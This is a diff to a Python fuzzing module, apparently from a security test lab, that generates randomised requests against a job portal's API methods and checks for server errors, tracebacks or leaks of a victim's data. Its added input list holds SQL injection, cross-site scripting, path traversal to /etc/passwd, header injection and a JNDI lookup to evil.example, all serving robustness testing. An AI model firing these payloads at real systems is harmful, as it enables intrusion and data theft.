@@ -1,22 +1,25 @@
-"""Generated requests to every endpoint: `python -m lab.attack.requests`; REQUESTS is their number.
+"""Generated requests to every method: `python -m lab.attack.requests`; REQUESTS is their number.
 
 No answer may be a 5xx, or contain a traceback or the victim's data. The victim's records must not change.
 """
 
 import http.client
+import json
 import multiprocessing
 import os
 import secrets
 import time
 import traceback
 from collections import Counter
-from urllib.parse import urlsplit
+from typing import NamedTuple
+from urllib.parse import urlencode, urlsplit
 
 from hypothesis import HealthCheck, Phase, given, seed, settings
+from hypothesis import strategies as st
 
 from job_portal.rules import MARKET, NOTICES
 from job_portal.tests.actor import API, CONTACT, company_values, fresh_number, job_values
-from lab.attack.generated import Request, requests
+from lab.attack.methods import methods
 from lab.attack.victim import Victim
 from lab.report import Report, main
 from lab.visitor import BASE_URL, TIMEOUT_SECONDS, Administrator, Visitor
@@ -27,6 +30,60 @@ RENEWED_AFTER = 300
 CALLERS = ("a guest", "an account", "an account's key")
 # The embedded host's exception for features that only a bench has.
 NOT_ON_THIS_HOST = b"UnknownCallError"
+
+# Each has broken some server.
+TEXTS = [
+    *("", " ", "\0", "a\0b", "\ud800", "\u202e\u200f\ufeff", "१२३४५६७८९०", "ﷺ" * 50, "e" + "\u0301" * 200),
+    *("x" * 141, "x" * 20_001, "\r\nSet-Cookie: sid=Administrator", "' or 1=1 -- ", '" or ""="', "\\"),
+    *("'; drop table `tabUser`; --", "1) union select password from __Auth --", "` or sleep(5) or `"),
+    *("<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "javascript:alert(1)", "{{ 7*7 }}"),
+    *("{% raw %}", "${jndi:ldap://evil.example/a}", "%s%s%n", "{0.__class__}", "../../../../etc/passwd"),
+    *("/private/files/../../site_config.json", "file:///etc/passwd", "//evil.example", "%", "_%", "None"),
+    *("null", "NaN", "true", "[]", "{}", '{"a": {"b": 1}}', '[["name", "like", "%"]]', "[" * 3000, "Guest"),
+    *("Administrator", "__init__", "0", "-1", "1e309", "9" * 40, "2026-02-30", "0000-00-00 00:00:00"),
+]
+NUMBERS = [0, -1, 1.5, -0.0, 1e308, float("inf"), float("nan"), 2**31, 2**63, -(2**63) - 1, 10**300]
+_texts = st.sampled_from(TEXTS) | st.text(max_size=24)
+_scalars = st.none() | st.booleans() | st.sampled_from(NUMBERS) | st.integers() | _texts
+HOSTILE = st.recursive(
+    _scalars,
+    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(_texts, inner, max_size=3),
+    max_leaves=6,
+)
+
+
+class Request(NamedTuple):
+    """One request without its sender."""
+
+    verb: str
+    path: str
+    headers: dict[str, str]
+    body: bytes
+
+
+@st.composite
+def requests(draw, known: dict[str, list]) -> Request:
+    """A call of a method: real values for most parameters or for none, and up to three hostile ones on top.
+
+    :param known: real values by the name of a parameter, the victim's among them.
+    """
+    method = draw(st.sampled_from(methods()))
+    values = {}
+    if draw(st.booleans()):
+        values = {name: draw(st.sampled_from(known[name])) for name in method.parameters if name in known}
+    for name in draw(st.lists(st.sampled_from([*method.parameters, "unknown"]), max_size=3)):
+        values[name] = draw(HOSTILE)
+    path = f"/api/method/{draw(st.sampled_from(method.names))}"
+    how = draw(st.sampled_from(["json", "json", "form", "query"]))
+    if how == "json":
+        return Request("POST", path, {"Content-Type": "application/json"}, json.dumps(values).encode())
+    pairs = {name: each if isinstance(each, str) else json.dumps(each) for name, each in values.items()}
+    # Servers refuse a longer address.
+    pairs = {name: text[:3000] for name, text in pairs.items()}
+    encoded = urlencode(pairs, encoding="utf-8", errors="surrogatepass")
+    if how == "query":
+        return Request("GET", f"{path}?{encoded}", {}, b"")
+    return Request("POST", path, {"Content-Type": "application/x-www-form-urlencoded"}, encoded.encode())
 
 
 class Sender:
